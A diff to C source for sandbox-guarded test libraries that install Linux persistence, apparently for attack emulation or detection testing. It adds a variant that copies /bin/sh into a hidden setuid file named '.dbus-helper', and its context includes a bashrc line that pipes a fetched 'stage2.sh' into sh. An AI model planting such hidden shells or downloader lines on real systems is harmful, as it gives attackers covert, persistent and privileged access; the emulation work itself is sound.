@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
-/* libscn_persist_{authkeys,cron,systemd,ldpreload,bashrc}.so: a constructor
+/* libscn_persist_{authkeys,cron,systemd,ldpreload,bashrc,setuid}.so: a constructor
  * that installs persistence. Runs ONLY under scn_nsroot (a private mount
  * namespace whose /etc and $HOME are throw-away overlays): it refuses unless
  * SCENARIO_SANDBOX is set AND the target directory is an overlay or tmpfs,
@@ -9,6 +9,7 @@
  *   systemd    writes and enables /etc/systemd/system/ unit       T1543.002
  *   ldpreload  adds itself to /etc/ld.so.preload                  T1574.006
  *   bashrc     appends a downloader line to ~/.bashrc             T1546.004
+ *   setuid     a copy of /bin/sh, set-user-ID, hidden in $HOME    T1548.001
  * Proof: NAME.ran first; NAME.done after the write; scn_nsroot lists what
  * landed in the overlay in NAME.persisted. */
 #include <dlfcn.h>
@@ -29,7 +30,7 @@ static int sandboxed(const char *dir)
 	return sf.f_type == OVERLAYFS_MAGIC || sf.f_type == TMPFS_MAGIC_;
 }
 
-static int append(const char *path, const char *line, int mode)
+static inline int append(const char *path, const char *line, int mode)
 {
 	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, mode), ok;
 
@@ -103,6 +104,25 @@ static int install(const char *home)
 	snprintf(line, sizeof(line), "(curl -fsS http://127.0.0.1:%d/stage2.sh | sh) >/dev/null 2>&1 &\n",
 		 scn_port("SCENARIO_HTTP_PORT"));
 	return append(path, line, 0644);
+}
+#elif defined(SCN_PERSIST_SETUID)
+#define TARGET_ROOT home
+static int install(const char *home)
+{
+	char path[512], buf[16384];
+	int in = open("/bin/sh", O_RDONLY | O_CLOEXEC), out, ok;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "%s/.dbus-helper", home);
+	out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
+	ok = in >= 0 && out >= 0;
+	while (ok && (n = read(in, buf, sizeof(buf))) > 0)
+		ok = write(out, buf, (size_t)n) == n;
+	if (in >= 0)
+		close(in);
+	if (out >= 0 && close(out))
+		ok = 0;
+	return ok && !chmod(path, 04755) ? 0 : -1;
 }
 #endif
 
